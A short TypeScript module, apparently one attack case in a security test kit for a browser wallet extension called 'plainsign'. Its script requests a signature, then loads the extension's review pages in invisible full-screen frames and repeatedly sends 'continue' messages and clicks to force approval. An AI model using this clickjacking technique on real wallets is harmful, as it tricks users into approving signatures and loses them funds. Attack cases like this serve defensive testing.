import type { Attack } from './kit/attack.ts'

export default {
  family: 'review-window',
  how: 'Puts the review window into a frame under its own buttons.',
  script: `
    ethereum.request(attack.sign)
    for (const path of ['/review.html', '/home.html', '/popup.html']) {
      const { contentWindow } = attack.frame({ src: attack.plainsign + path, style: 'opacity:0;position:fixed;inset:0' })
      for (let i = 0; i < 8; i++) {
        await attack.sleep(30)
        try { contentWindow.postMessage({ type: 'review.decide', choice: 'continue' }, '*') } catch {}
        try { contentWindow.document.querySelector('[data-testid=continue]').click() } catch {}
      }
    }
  `,
} satisfies Attack
